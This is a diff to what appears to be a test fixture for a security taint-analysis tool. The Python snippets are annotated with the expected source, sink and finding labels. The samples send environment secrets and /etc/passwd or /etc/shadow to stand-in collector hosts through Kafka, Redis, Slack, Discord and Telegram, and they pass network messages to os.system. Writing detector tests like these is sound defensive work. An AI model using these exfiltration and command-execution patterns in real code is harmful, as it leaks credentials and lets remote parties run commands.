@@ -100,13 +100,16 @@ def rpc_constants():
     channel = grpc.insecure_channel("grpc.collector.example:50051")  #~ ok
     put = channel.unary_unary("/s/Put")  #~ ok
     put.with_call(b"ping")  #~ ok
+
+
+def rpc_server():
     grpc.server(None)  #~ capability(NETWORK)
     grpc.server(None)  #~ ok
 
 
 def rabbit_publish():
     channel = pika.BlockingConnection(None).channel()  #~ capability(NETWORK)
-    channel.basic_publish("", "q", os.getenv("T"))  #~ source(ENVIRONMENT) f16, sink(egress.message) f16, finding(traced) f16
+    channel.basic_publish("", "q", os.getenv("T"))  #~ source(ENVIRONMENT) f17, sink(egress.message) f17, finding(traced) f17
 
 
 def on_delivery(channel, method, properties, body):
@@ -124,8 +127,8 @@ def rabbit_consume():
 
 def rabbit_get():
     channel = pika.BlockingConnection(None).channel()
-    method, properties, body = channel.basic_get("q")  #~ source(NETWORK) f20
-    os.system(body)  #~ sink(exec.command) f20, finding(traced) f20
+    method, properties, body = channel.basic_get("q")  #~ source(NETWORK) f21
+    os.system(body)  #~ sink(exec.command) f21, finding(traced) f21
 
 
 def rabbit_constants():
@@ -137,12 +140,12 @@ def rabbit_constants():
 
 def kafka_send():
     producer = kafka.KafkaProducer(bootstrap_servers="kafka.collector.example:9092")  #~ capability(NETWORK), endpoint("kafka.collector.example:9092")
-    producer.send("topic", os.getenvb(b"T"))  #~ source(ENVIRONMENT) f22, sink(egress.message) f22, finding(traced) f22
+    producer.send("topic", os.getenvb(b"T"))  #~ source(ENVIRONMENT) f23, sink(egress.message) f23, finding(traced) f23
 
 
 def kafka_receive():
-    for message in kafka.KafkaConsumer("topic"):  #~ source(NETWORK) f23, capability(NETWORK)
-        os.system(message.value)  #~ sink(exec.command) f23, finding(traced) f23
+    for message in kafka.KafkaConsumer("topic"):  #~ source(NETWORK) f24, capability(NETWORK)
+        os.system(message.value)  #~ sink(exec.command) f24, finding(traced) f24
 
 
 def kafka_constants():
@@ -152,14 +155,14 @@ def kafka_constants():
 
 def confluent_send():
     producer = confluent_kafka.Producer({})
-    producer.produce("topic", os.getenv("T"))  #~ source(ENVIRONMENT) f25, sink(egress.message) f25, finding(traced) f25, capability(NETWORK)
+    producer.produce("topic", os.getenv("T"))  #~ source(ENVIRONMENT) f26, sink(egress.message) f26, finding(traced) f26, capability(NETWORK)
     producer.produce("topic", "ping")  #~ ok
 
 
 def confluent_receive():
     consumer = confluent_kafka.Consumer({})
-    message = consumer.poll(1)  #~ source(NETWORK) f26, capability(NETWORK)
-    os.system(message.text)  #~ sink(exec.command) f26, finding(traced) f26
+    message = consumer.poll(1)  #~ source(NETWORK) f27, capability(NETWORK)
+    os.system(message.text)  #~ sink(exec.command) f27, finding(traced) f27
 
 
 def confluent_compared():
@@ -168,12 +171,12 @@ def confluent_compared():
 
 def redis_publish():
     r = redis.Redis("redis.collector.example")  #~ capability(NETWORK), endpoint("redis.collector.example")
-    r.publish("channel", os.getenv("T"))  #~ source(ENVIRONMENT) f28, sink(egress.message) f28, finding(traced) f28
+    r.publish("channel", os.getenv("T"))  #~ source(ENVIRONMENT) f29, sink(egress.message) f29, finding(traced) f29
 
 
 def redis_next():
     r = redis.Redis("redis.collector.example")
-    os.system(r.lpop("tasks"))  #~ source(NETWORK) f29, sink(exec.command) f29, finding(traced) f29
+    os.system(r.lpop("tasks"))  #~ source(NETWORK) f30, sink(exec.command) f30, finding(traced) f30
 
 
 def redis_constants():
@@ -185,7 +188,7 @@ def redis_constants():
 def mqtt_publish():
     c = paho.mqtt.client.Client()
     c.connect("mqtt.collector.example")  #~ capability(NETWORK), endpoint("mqtt.collector.example")
-    c.publish("topic", os.getenv("T"))  #~ source(ENVIRONMENT) f31, sink(egress.message) f31, finding(traced) f31, capability(NETWORK)
+    c.publish("topic", os.getenv("T"))  #~ source(ENVIRONMENT) f32, sink(egress.message) f32, finding(traced) f32
 
 
 def on_mqtt(client, userdata, message):
@@ -203,7 +206,7 @@ def mqtt_listen():
 
 
 def mqtt_single():
-    paho.mqtt.publish.single("topic", os.getenv("T"), hostname="mqtt.collector.example")  #~ source(ENVIRONMENT) f35, sink(egress.message) f35, finding(traced) f35, capability(NETWORK)
+    paho.mqtt.publish.single("topic", os.getenv("T"), hostname="mqtt.collector.example")  #~ source(ENVIRONMENT) f36, sink(egress.message) f36, finding(traced) f36, capability(NETWORK)
     paho.mqtt.publish.single("topic", "ping", hostname="mqtt.collector.example")  #~ ok
 
 
@@ -217,18 +220,18 @@ def mqtt_constants():
 
 def zmq_send():
     s = zmq.Context().socket(zmq.PUSH)  #~ capability(NETWORK)
-    s.connect("tcp://zmq.collector.example:5555")  #~ capability(NETWORK), endpoint("tcp://zmq.collector.example:5555")
-    s.send_string(os.getenv("T"))  #~ source(ENVIRONMENT) f37, sink(egress.message) f37, finding(traced) f37
+    s.connect("tcp://zmq.collector.example:5555")  #~ endpoint("tcp://zmq.collector.example:5555")
+    s.send_string(os.getenv("T"))  #~ source(ENVIRONMENT) f38, sink(egress.message) f38, finding(traced) f38
 
 
 def zmq_receive():
     s = zmq.Context().socket(zmq.PULL)
-    os.system(s.recv_string())  #~ source(NETWORK) f38, sink(exec.command) f38, finding(traced) f38
+    os.system(s.recv_string())  #~ source(NETWORK) f39, sink(exec.command) f39, finding(traced) f39
 
 
 def zmq_object():
     s = zmq.Context().socket(zmq.PULL)
-    s.recv_pyobj()  #~ source(NETWORK) f39, sink(exec.load) f39, finding(traced) f39
+    s.recv_pyobj()  #~ source(NETWORK) f40, sink(exec.load) f40, finding(traced) f40
 
 
 def zmq_constants(queue):
@@ -241,22 +244,22 @@ def zmq_constants(queue):
 
 def io_emit():
     c = socketio.Client()
-    c.emit("event", os.getenv("T"))  #~ source(ENVIRONMENT) f41, sink(egress.message) f41, finding(traced) f41, capability(NETWORK)
+    c.emit("event", os.getenv("T"))  #~ source(ENVIRONMENT) f42, sink(egress.message) f42, finding(traced) f42, capability(NETWORK)
     c.emit("event", "ping")  #~ ok
 
 
 def slack_post():
     c = slack_sdk.WebClient(token="x")  #~ capability(NETWORK)
-    c.chat_postMessage(channel="c", text=os.getenv("T"))  #~ source(ENVIRONMENT) f42, sink(egress.message) f42, finding(traced) f42
+    c.chat_postMessage(channel="c", text=os.getenv("T"))  #~ source(ENVIRONMENT) f43, sink(egress.message) f43, finding(traced) f43
 
 
 def slack_file():
     c = slack_sdk.WebClient(token="x")
-    c.files_upload_v2(channel="c", file="/etc/passwd")  #~ source(FILE) f43, sink(egress.message) f43, finding(traced) f43, capability(FILES)
+    c.files_upload_v2(channel="c", file="/etc/passwd")  #~ source(FILE) f44, sink(egress.message) f44, finding(traced) f44, capability(FILES)
 
 
 def slack_hook():
-    WebhookClient("https://slack.collector.example/").send(text=os.getenv("T"))  #~ source(ENVIRONMENT) f44, sink(egress.message) f44, finding(traced) f44, capability(NETWORK)
+    WebhookClient("https://slack.collector.example/").send(text=os.getenv("T"))  #~ source(ENVIRONMENT) f45, sink(egress.message) f45, finding(traced) f45, capability(NETWORK)
     WebhookClient("https://slack.collector.example/").send(text="ping")  #~ ok
 
 
@@ -268,8 +271,8 @@ def slack_constants():
 
 def discord_file():
     hook = discord.SyncWebhook.from_url("https://discord.collector.example/")  #~ capability(NETWORK), endpoint("https://discord.collector.example/")
-    file = discord.File("/etc/passwd")  #~ source(FILE) f46, capability(FILES)
-    hook.send("here", file=file)  #~ sink(egress.message) f46, finding(traced) f46
+    file = discord.File("/etc/passwd")  #~ source(FILE) f47, capability(FILES)
+    hook.send("here", file=file)  #~ sink(egress.message) f47, finding(traced) f47
 
 
 def discord_constants():
@@ -279,14 +282,14 @@ def discord_constants():
 
 
 def hook_text():
-    hook = discord_webhook.DiscordWebhook(url="https://hook.collector.example/", content=os.getenv("T"))  #~ source(ENVIRONMENT) f48, capability(NETWORK), endpoint("https://hook.collector.example/")
-    hook.execute()  #~ sink(egress.message) f48, finding(traced) f48
+    hook = discord_webhook.DiscordWebhook(url="https://hook.collector.example/", content=os.getenv("T"))  #~ source(ENVIRONMENT) f49, capability(NETWORK), endpoint("https://hook.collector.example/")
+    hook.execute()  #~ sink(egress.message) f49, finding(traced) f49
 
 
 def hook_file():
     hook = discord_webhook.DiscordWebhook(url="https://hook.collector.example/")
-    hook.add_file(file=os.getenvb(b"T"), filename="x")  #~ source(ENVIRONMENT) f49
-    hook.execute()  #~ sink(egress.message) f49, finding(traced) f49
+    hook.add_file(file=os.getenvb(b"T"), filename="x")  #~ source(ENVIRONMENT) f50
+    hook.execute()  #~ sink(egress.message) f50, finding(traced) f50
 
 
 def hook_constants():
@@ -297,18 +300,17 @@ def hook_constants():
 
 def bot_text():
     bot = telegram.Bot("token")
-    bot.send_message(1, os.getenv("T"))  #~ source(ENVIRONMENT) f51, sink(egress.message) f51, finding(traced) f51, capability(NETWORK)
+    bot.send_message(1, os.getenv("T"))  #~ source(ENVIRONMENT) f52, sink(egress.message) f52, finding(traced) f52, capability(NETWORK)
 
 
 def bot_file():
     bot = telegram.Bot("token")
-    bot.send_document(1, open("/etc/passwd", "rb"))  #~ capability(NETWORK), capability(FILES)
-    bot.send_document(1, "/etc/shadow")  #~ source(FILE) f52, sink(egress.message) f52, finding(traced) f52
+    bot.send_document(1, "/etc/shadow")  #~ source(FILE) f53, sink(egress.message) f53, finding(traced) f53, capability(NETWORK), capability(FILES)
 
 
 def bot_command():
     bot = telegram.Bot("token")
-    os.system(bot.get_updates()[0].text)  #~ source(NETWORK) f53, sink(exec.command) f53, finding(traced) f53
+    os.system(bot.get_updates()[0].text)  #~ source(NETWORK) f54, sink(exec.command) f54, finding(traced) f54
 
 
 def bot_constants(queue):
@@ -320,7 +322,7 @@ def bot_constants(queue):
 
 def text_message():
     c = twilio.rest.Client("a", "b")  #~ capability(NETWORK)
-    c.messages.create(to="1", body=os.getenv("T"))  #~ source(ENVIRONMENT) f55, sink(egress.message) f55, finding(traced) f55
+    c.messages.create(to="1", body=os.getenv("T"))  #~ source(ENVIRONMENT) f56, sink(egress.message) f56, finding(traced) f56
 
 
 def text_message_constant():
@@ -330,13 +332,13 @@ def text_message_constant():
 
 def fleet_send():
     fs = connector.FleetspeakConnection(version="1")  #~ capability(IPC)
-    fs.Send(os.getenv("T"))  #~ source(ENVIRONMENT) f57, sink(egress.message) f57, finding(traced) f57, capability(NETWORK)
+    fs.Send(os.getenv("T"))  #~ source(ENVIRONMENT) f58, sink(egress.message) f58, finding(traced) f58, capability(NETWORK)
 
 
 def fleet_receive():
     fs = connector.FleetspeakConnection(version="1")
-    message, size = fs.Recv()  #~ source(NETWORK) f58, capability(NETWORK)
-    os.system(message.data)  #~ sink(exec.command) f58, finding(traced) f58
+    message, size = fs.Recv()  #~ source(NETWORK) f59, capability(NETWORK)
+    os.system(message.data)  #~ sink(exec.command) f59, finding(traced) f59
 
 
 def fleet_constants():
@@ -353,12 +355,12 @@ def bus():
 
 def process_send():
     c = Client(("ipc.collector.example", 6000))  #~ capability(IPC), endpoint("ipc.collector.example")
-    c.send(os.getenv("T"))  #~ source(ENVIRONMENT) f61, sink(egress.ipc) f61, finding(traced) f61
+    c.send(os.getenv("T"))  #~ source(ENVIRONMENT) f62, sink(egress.ipc) f62, finding(traced) f62
 
 
 def process_receive():
     c = Listener(("", 6000)).accept()  #~ capability(IPC)
-    os.system(c.recv())  #~ source(NETWORK) f62, sink(exec.command) f62, finding(traced) f62
+    os.system(c.recv())  #~ source(NETWORK) f63, sink(exec.command) f63, finding(traced) f63
 
 
 def process_constants():
